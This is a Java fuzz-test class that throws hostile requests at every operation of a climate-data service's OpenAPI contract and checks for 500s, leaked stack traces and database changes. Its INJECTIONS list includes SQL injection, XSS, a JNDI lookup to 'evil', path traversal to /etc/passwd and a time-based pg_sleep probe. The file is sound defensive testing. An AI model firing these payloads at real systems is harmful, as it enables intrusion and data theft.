package no.klimanett.security;

import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.security.SecureRandom;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.stream.Collectors;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.sessions.JqwikSession;
import no.klimanett.auth.LoginThrottle;
import no.klimanett.common.ProblemType;
import no.klimanett.security.World.Who;
import no.klimanett.testing.DatabaseFingerprint;
import no.klimanett.testing.Fixtures;
import no.klimanett.testing.OpenApiOperations;
import no.klimanett.testing.OpenApiOperations.Operation;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/**
 * A schema-driven fuzz test over every operation of openapi.yaml: starting from a valid request per operation
 * ({@link Calls}), one thing at a time is made hostile — a body field (by its schema: wrong types, huge and
 * negative numbers, unicode with RTL marks, emoji and NUL, very long strings, injection strings), the whole body
 * (malformed, deeply nested, invalid UTF-8), the content type, a path or query parameter, or a header (If-Match,
 * Idempotency-Key, Accept, Authorization).
 *
 * <p>Every answer must be below 500; every 4xx must be problem+json with one of our stable types and its own
 * status; no answer may show a stack trace, SQL or a class name; and a refused request must leave every row of
 * the database as it was. Values are generated with jqwik's arbitraries from a seed that is printed, so any
 * failure can be replayed with {@code -Dklimanett.fuzz.seed=…}; the run is bounded by
 * {@code -Dklimanett.fuzz.seconds} (default 45).
 */
@QuarkusTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class SchemaFuzzTest {

    static final Set<String> TYPES = Arrays.stream(ProblemType.values()).map(ProblemType::uri).collect(Collectors.toSet());

    /** What must never appear in an answer: traces, SQL, class and package names. */
    static final List<String> LEAKS = List.of("Exception", "\tat ", "at no.klimanett", "no.klimanett.", "org.hibernate",
            "org.postgresql", "PSQL", "SQLState", "SQL state", "java.lang", "jakarta.", "io.quarkus", "io.vertx",
            "com.fasterxml", "ERROR:", "SELECT ", "INSERT INTO", "DELETE FROM", "constraint \"", "Caused by");

    /**
     * Requests that are malformed at the HTTP level — a Content-Length that is not a number, a request line longer
     * than quarkus.http.limits.max-initial-line-length, headers over max-header-size — are refused by the HTTP server
     * (Vert.x/Netty) while parsing, before routing, so no handler of ours can give them a problem+json body. They
     * are the only answers allowed to come without one. (docs/SECURITY.md, API8)
     */
    static final Set<Integer> PROTOCOL_REFUSALS = Set.of(400, 413, 414, 431);

    static final List<String> INJECTIONS = List.of("' OR '1'='1", "'; DROP TABLE app_user; --", "\" OR 1=1 --",
            "1; SELECT pg_sleep(5)", "<script>alert(1)</script>", "javascript:alert(1)", "${jndi:ldap://evil/x}",
            "{{7*7}}", "../../../../etc/passwd", "%00", "%s%s%s%n", "\\", "' UNION SELECT password_hash FROM app_user --",
            "{\"$gt\": \"\"}", "admin'--", "\u202Egnp.exe", "\u200F\u05E9\u05DC\u05D5\u05DD \u0645\u0631\u062D\u0628\u0627",
            "😀🔥👩‍👩‍👧‍👦", "\u0000", "a\u0000b", "\uFEFF", "\uD800", "\uDFFF", "𝕂𝕝𝕚𝕞𝕒", "Ω≈ç√∫", "null", "true", "NaN",
            "Infinity", "-0", "1e309", "", " ", "\t\n\r", "\u0085\u2028\u2029");

    @Inject
    Fixtures fixtures;

    @Inject
    DatabaseFingerprint database;

    @Inject
    LoginThrottle throttle;

    @Inject
    ObjectMapper json;

    World world;
    Calls calls;
    OpenApiOperations contract;
    Random random;

    // ------------------------------------------------------------------ generators (jqwik arbitraries)

    final Arbitrary<String> strings = Arbitraries.oneOf(
            Arbitraries.of(INJECTIONS),
            Arbitraries.strings().all().ofMaxLength(40),
            Arbitraries.strings().withCharRange('\u0590', '\u06FF').ofMinLength(1).ofMaxLength(30),
            Arbitraries.strings().withChars("😀🌍\u200D\u202E\u0000\u0007").ofMinLength(1).ofMaxLength(20),
            Arbitraries.integers().between(100, 70_000).map(n -> "x".repeat(n)));

    final Arbitrary<Object> numbers = Arbitraries.<Object>oneOf(
            Arbitraries.of(Long.MAX_VALUE, Long.MIN_VALUE, Integer.MAX_VALUE + 1L, -1L, 0L, -2147483649L),
            Arbitraries.of(new BigDecimal("1e400"), new BigDecimal("-1e-400"), new BigDecimal("123456789012345678901234567890.123456789"),
                    new BigDecimal("0.0000000001"), new BigDecimal("-0.001"), new BigInteger("9".repeat(500))),
            Arbitraries.doubles().between(-1e12, 1e12).map(d -> (Object) d),
            Arbitraries.integers().map(i -> (Object) i));

    final Arbitrary<Object> wrongTypes = Arbitraries.<Object>of(true, false, List.of(), List.of(1, "a", List.of()),
            Map.of(), Map.of("a", Map.of("b", 1)), "2020-13-45", "00000000-0000-0000-0000-00000000000g");

    final Arbitrary<Object> values = Arbitraries.<Object>oneOf(strings.map(s -> (Object) s), numbers, wrongTypes);

    /** Headers are Latin-1 on the wire and cannot carry CR, LF or NUL: the client would refuse to send them. */
    final Arbitrary<String> headerValues = Arbitraries.oneOf(
            Arbitraries.of("\"", "\"1", "W/", "W/\"x\"", "*, *", "\"-1\"", "\"99999999999999999999\"", "\"1\", garbage",
                    "' OR 1=1 --", "é", "Bearer", "Basic YWRtaW46YWRtaW4=", "Bearer a.b.c", "Bearer " + "A".repeat(5000),
                    "text/csv", "application/xml", "*/*;q=x", ""),
            Arbitraries.strings().withCharRange(' ', '~').ofMinLength(1).ofMaxLength(300),
            Arbitraries.integers().between(201, 8000).map(n -> "k".repeat(n)));

    <T> T next(Arbitrary<T> arbitrary) {
        return arbitrary.generator(1000).next(random).value();
    }

    // ------------------------------------------------------------------ the run

    @Test
    void hostileInputNeverBreaksTheService() {
        long seed = Long.getLong("klimanett.fuzz.seed", new SecureRandom().nextLong());
        Duration budget = Duration.ofSeconds(Long.getLong("klimanett.fuzz.seconds", 45));
        random = new Random(seed);
        world = new World(fixtures);
        calls = new Calls(world);
        contract = OpenApiOperations.load();
        System.out.printf("Fuzz: seed %d (replay with -Dklimanett.fuzz.seed=%d), budget %d s%n", seed, seed, budget.toSeconds());
        // jqwik's generators outside a property need a session; the values come from our seeded Random
        JqwikSession.start();
        try {
            run(seed, budget);
        } finally {
            JqwikSession.finish();
        }
    }

    private void run(long seed, Duration budget) {

        List<String> failures = new ArrayList<>();
        Map<String, Integer> perOperation = new LinkedHashMap<>();
        long deadline = System.nanoTime() + budget.toNanos();
        int sent = 0;
        int rejected = 0;
        int round = 0;
        Map<String, String> baseline = Map.of();
        long baselineMark = -1;
        // the first round always completes, so every operation is fuzzed however slow the machine is
        while ((round == 0 || System.nanoTime() < deadline) && failures.size() < 30) {
            for (Operation op : contract.operations()) {
                if (round > 0 && System.nanoTime() >= deadline) break;
                throttle.reset(); // the token endpoint is fuzzed too; its budget is tested elsewhere
                FuzzCase c = hostile(op, round);
                long mark = database.writeMark();
                if (mark != baselineMark) {
                    baseline = database.take();
                    baselineMark = mark;
                }
                Response response;
                try {
                    response = send(c);
                } catch (Exception clientRefused) {
                    continue; // the HTTP client itself would not send this (e.g. an illegal URI): nothing reached us
                }
                sent++;
                perOperation.merge(op.operationId(), 1, Integer::sum);
                String failure = check(c, response);
                if (response.statusCode() >= 400) {
                    rejected++;
                    long after = database.writeMark();
                    if (after != baselineMark) {
                        var now = database.take();
                        var changed = DatabaseFingerprint.changedTables(baseline, now);
                        if (!changed.isEmpty() && failure == null) {
                            failure = "refused with " + response.statusCode() + " but changed " + changed;
                        }
                        baseline = now;
                        baselineMark = after;
                    }
                }
                if (failure != null) {
                    failures.add("seed " + seed + " round " + round + " " + c.description + ": " + failure);
                }
            }
            round++;
        }
        System.out.printf("Fuzz: %d requests sent (%d refused, %d accepted) over %d operations in %d rounds, seed %d%n",
                sent, rejected, sent - rejected, perOperation.size(), round, seed);
        if (!failures.isEmpty()) fail(failures.size() + " finding(s):\n" + String.join("\n", failures));
        assertTrue(perOperation.size() == contract.operations().size(), "not every operation was fuzzed: " + perOperation.keySet());
    }

    /** What the fuzzer found once, kept as fixed examples (the seeds are in docs/SECURITY.md). */
    @Test
    void regressionsFoundByTheFuzzer() {
        String admin = fixtures.adminToken();
        // seed 4040451818690404799: a value of the wrong JSON type was answered by Quarkus's own mapper, naming Java types
        var wrongType = given().contentType("application/json").accept("application/json").auth().oauth2(admin)
                .body("{\"name\":\"Set\",\"version\":\"1\",\"year\":false,\"gwpSet\":\"AR6\",\"factors\":[]}")
                .post("/api/v1/emission-factor-sets").then();
        no.klimanett.testing.Api.fieldError(wrongType, "year");
        var array = given().contentType("application/json").accept("application/json").auth().oauth2(admin)
                .body("[1,2,3]").post("/api/v1/emission-factor-sets").then();
        array.statusCode(400).contentType(org.hamcrest.Matchers.startsWith("application/problem+json"));
        // seed -2616444447781149879: NUL in a text filter reached PostgreSQL, which cannot compare it (500)
        no.klimanett.testing.Api.fieldError(given().urlEncodingEnabled(false).accept("application/json")
                .get("/api/v1/networks?slug=a%00b").then(), "slug");
        // the same character in a body is refused by the database inside the transaction: 400, nothing written
        given().contentType("application/json").accept("application/json").auth().oauth2(admin)
                .body("{\"name\":\"a\\u0000b\",\"country\":\"NO\",\"sector\":\"PUBLIC\"}")
                .post("/api/v1/organisations").then().statusCode(400)
                .contentType(org.hamcrest.Matchers.startsWith("application/problem+json"));
        // seed 1906406757873182441: a JSON null body reached the service and failed with a 500
        var nothing = given().contentType("application/json").accept("application/json").auth().oauth2(admin)
                .body("null").post("/api/v1/organisations").then();
        no.klimanett.testing.Api.fieldError(nothing, "body");
        given().contentType("application/json").accept("application/json").auth().oauth2(admin).body("")
                .post("/api/v1/organisations").then().statusCode(400)
                .contentType(org.hamcrest.Matchers.startsWith("application/problem+json"));
    }

    /** Null when the answer is acceptable, otherwise what is wrong with it. */
    String check(FuzzCase c, Response response) {
        int status = response.statusCode();
        String body = response.asString();
        if (status >= 500) return "answered " + status + " " + abbreviate(body);
        if (c.protocolLevel && body.isEmpty() && PROTOCOL_REFUSALS.contains(status)) {
            return null; // refused by the HTTP server before any application code (see PROTOCOL_REFUSALS)
        }
        if (status >= 400) {
            String type = String.valueOf(response.contentType());
            if (!type.startsWith("application/problem+json")) return "answered " + status + " as '" + type + "': " + abbreviate(body);
            Object problemType;
            Object problemStatus;
            try {
                problemType = response.jsonPath().get("type");
                problemStatus = response.jsonPath().get("status");
            } catch (RuntimeException e) {
                return "answered " + status + " with a problem that is not JSON: " + abbreviate(body);
            }
            if (!TYPES.contains(problemType)) return "answered " + status + " with an unknown problem type " + problemType;
            if (!Integer.valueOf(status).equals(problemStatus)) return "answered " + status + " with problem status " + problemStatus;
        }
        String scrubbed = body;
        for (String echo : c.echoes) {
            if (echo.isEmpty()) continue;
            scrubbed = scrubbed.replace(echo, "").replace(jsonEscaped(echo), "");
        }
        for (String leak : LEAKS) {
            if (scrubbed.contains(leak)) return "answered " + status + " showing '" + leak + "': " + abbreviate(body);
        }
        return null;
    }

    // ------------------------------------------------------------------ hostile requests

    static final class FuzzCase {
        String description;
        String method;
        String url;
        String token;
        String contentType;
        byte[] body;
        final Map<String, String> headers = new LinkedHashMap<>();
        final List<String> echoes = new ArrayList<>();
        boolean protocolLevel;
    }

    private FuzzCase hostile(Operation op, int round) {
        var spec = calls.spec(op.operationId());
        String target = spec.targets().get(round % spec.targets().size());
        // mostly an administrator, who gets past the access rules to the deepest validation; sometimes anyone
        Who who = random.nextInt(10) < 7 ? Who.ADMIN : Who.values()[random.nextInt(Who.values().length)];
        Calls.Call call = spec.call().apply(target, who);
        FuzzCase c = new FuzzCase();
        c.method = op.method();
        c.token = world.token(who);
        c.contentType = call.contentType;
        c.headers.putAll(call.headers);
        Map<String, String> path = new LinkedHashMap<>();
        call.path.forEach((k, v) -> path.put(k, v.toString()));
        Map<String, List<String>> query = new LinkedHashMap<>();
        call.query.forEach((k, v) -> query.put(k, v.stream().map(Object::toString).collect(Collectors.toCollection(ArrayList::new))));
        Object body = call.form.isEmpty() ? call.body : formBody(call.form);

        List<String> kinds = new ArrayList<>(List.of("header", "contentType"));
        if (!op.in("path").isEmpty()) kinds.add("path");
        if (!op.in("query").isEmpty()) kinds.add("query");
        if (body instanceof Map<?, ?>) { kinds.add("field"); kinds.add("field"); kinds.add("field"); kinds.add("remove"); }
        if (body != null) { kinds.add("raw"); kinds.add("raw"); }
        String kind = kinds.get(random.nextInt(kinds.size()));
        String what = kind;
        switch (kind) {
            case "field" -> {
                var mutated = mutateField(op, deepCopy(body));
                body = mutated.body;
                what = "field " + mutated.field + " = " + abbreviate(String.valueOf(mutated.value));
                if (mutated.value instanceof String s) c.echoes.add(s);
            }
            case "remove" -> {
                @SuppressWarnings("unchecked")
                Map<String, Object> copy = new LinkedHashMap<>((Map<String, Object>) body);
                if (!copy.isEmpty()) {
                    String field = new ArrayList<>(copy.keySet()).get(random.nextInt(copy.size()));
                    copy.remove(field);
                    what = "without " + field;
                }
                body = copy;
            }
            case "raw" -> {
                byte[] raw = rawBody();
                body = raw;
                what = "body " + abbreviate(new String(raw, StandardCharsets.UTF_8));
                c.echoes.add(new String(raw, StandardCharsets.UTF_8));
            }
            case "contentType" -> {
                c.contentType = next(Arbitraries.of("text/plain", "application/xml", "application/json; charset=utf-16",
                        "multipart/form-data; boundary=x", "application/x-www-form-urlencoded", "text/csv", "application/json",
                        "*/*", "application/problem+json", "application/merge-patch+json"));
                what = "content type " + c.contentType;
            }
            case "path" -> {
                var p = op.in("path").get(random.nextInt(op.in("path").size()));
                String value = next(Arbitraries.oneOf(strings, Arbitraries.of("-1", "0", "99999999999999999999", "2020.5",
                        "1e3", "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff",
                        "3f1c2b6e-8a50-4c7e-9a55-0c1d2e3f4a5", "%", "..", ".", "%2e%2e", "2147483648", "-2147483649")));
                path.put(p.name(), value);
                what = "path " + p.name() + " = " + abbreviate(value);
                c.echoes.add(value);
            }
            case "query" -> {
                var p = op.in("query").get(random.nextInt(op.in("query").size()));
                String value = String.valueOf(next(values));
                if (random.nextBoolean()) query.computeIfAbsent(p.name(), k -> new ArrayList<>()).add(value);
                else query.put(p.name(), new ArrayList<>(List.of(value)));
                what = "query " + p.name() + " = " + abbreviate(value);
                c.echoes.add(value);
            }
            default -> {
                String name = next(Arbitraries.of("If-Match", "Idempotency-Key", "Accept", "Authorization", "If-None-Match",
                        "Content-Length", "X-Forwarded-For", "Accept-Language"));
                String value = next(headerValues);
                if (name.equals("Authorization")) c.token = null;
                if (name.equals("Content-Length")) value = String.valueOf(next(Arbitraries.of("-1", "abc", "99999999999999999999", "0")));
                c.headers.put(name, value);
                what = "header " + name + ": " + abbreviate(value);
                c.echoes.add(value);
            }
        }
        c.url = url(op, path, query);
        c.protocolLevel = c.url.length() > 4000 || c.headers.containsKey("Content-Length")
                || c.headers.values().stream().anyMatch(v -> v.length() > 4000);
        c.body = bytes(body);
        c.description = op.operationId() + " as " + who.column + " on " + target + ", " + what;
        return c;
    }

    record Mutation(Map<String, Object> body, String field, Object value) {}

    /** Replaces one property, chosen from the operation's request schema (top level or inside a list element). */
    @SuppressWarnings("unchecked")
    private Mutation mutateField(Operation op, Object body) {
        Map<String, Object> map = (Map<String, Object>) body;
        List<String> names = new ArrayList<>();
        if (op.requestSchemaRef() != null) {
            var schema = contract.resolve(Map.of("$ref", op.requestSchemaRef()));
            names.addAll(((Map<String, Object>) schema.getOrDefault("properties", Map.of())).keySet());
        }
        names.addAll(map.keySet());
        names.add("unexpected" + random.nextInt(3));
        String field = names.get(random.nextInt(names.size()));
        Object value = next(values);
        if (map.get(field) instanceof List<?> list && !list.isEmpty() && list.get(0) instanceof Map<?, ?> first && random.nextBoolean()) {
            var element = new LinkedHashMap<>((Map<String, Object>) first);
            var keys = new ArrayList<>(element.keySet());
            String inner = keys.isEmpty() ? "x" : keys.get(random.nextInt(keys.size()));
            element.put(inner, value);
            var copy = new ArrayList<Object>(list);
            copy.set(0, element);
            map.put(field, copy);
            return new Mutation(map, field + "[0]." + inner, value);
        }
        map.put(field, value);
        return new Mutation(map, field, value);
    }

    private byte[] rawBody() {
        int pick = random.nextInt(12);
        return switch (pick) {
            case 0 -> "{".getBytes();
            case 1 -> "[1,2,3]".getBytes();
            case 2 -> "null".getBytes();
            case 3 -> "[".repeat(50_000).getBytes();
            case 4 -> ("{\"a\":" + "{\"a\":".repeat(3000) + "1" + "}".repeat(3001)).getBytes();
            case 5 -> ("{\"name\":1e" + "9".repeat(50) + "}").getBytes();
            case 6 -> new byte[] {(byte) 0xC3, 0x28, (byte) 0xA0, (byte) 0xA1, (byte) 0xFF, (byte) 0xFE};
            case 7 -> "\uFEFF{}".getBytes(StandardCharsets.UTF_8);
            case 8 -> "{\"name\":\"a\",\"name\":\"b\"}".getBytes();
            case 9 -> "{\"year\": NaN, \"x\": Infinity}".getBytes();
            case 10 -> ("{\"s\":\"" + "\\u0000".repeat(100) + "\"}").getBytes();
            default -> next(strings).getBytes(StandardCharsets.UTF_8);
        };
    }

    private Response send(FuzzCase c) {
        var request = given().urlEncodingEnabled(false).accept("application/json");
        if (c.contentType != null) request = request.contentType(c.contentType);
        if (c.token != null) request = request.auth().oauth2(c.token);
        for (var h : c.headers.entrySet()) request = request.header(h.getKey(), h.getValue());
        if (c.body != null) request = request.body(c.body);
        return request.request(c.method, c.url);
    }

    private static String url(Operation op, Map<String, String> path, Map<String, List<String>> query) {
        String url = op.path();
        for (var p : path.entrySet()) url = url.replace("{" + p.getKey() + "}", encode(p.getValue()));
        if (!query.isEmpty()) {
            url += "?" + query.entrySet().stream().flatMap(e -> e.getValue().stream().map(v -> encode(e.getKey()) + "=" + encode(v)))
                    .collect(Collectors.joining("&"));
        }
        return url;
    }

    private static String encode(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private byte[] bytes(Object body) {
        if (body == null) return null;
        if (body instanceof byte[] raw) return raw;
        if (body instanceof String s) return s.getBytes(StandardCharsets.UTF_8);
        try {
            return json.writeValueAsBytes(body);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String formBody(Map<String, String> form) {
        return form.entrySet().stream().map(e -> encode(e.getKey()) + "=" + encode(e.getValue())).collect(Collectors.joining("&"));
    }

    private Object deepCopy(Object body) {
        try {
            return json.readValue(json.writeValueAsBytes(body), Object.class);
        } catch (java.io.IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private String jsonEscaped(String s) {
        try {
            String quoted = json.writeValueAsString(s);
            return quoted.substring(1, quoted.length() - 1);
        } catch (JsonProcessingException e) {
            return s;
        }
    }

    private static String abbreviate(String s) {
        // control characters would cut the report short; show them as escapes
        String oneLine = s.replaceAll("\\s+", " ").chars().mapToObj(ch -> ch < 0x20 || ch == 0x7f || Character.isSurrogate((char) ch)
                ? String.format("\\u%04x", ch) : String.valueOf((char) ch)).collect(Collectors.joining());
        return oneLine.length() > 120 ? oneLine.substring(0, 120) + "…(" + s.length() + ")" : oneLine;
    }
}
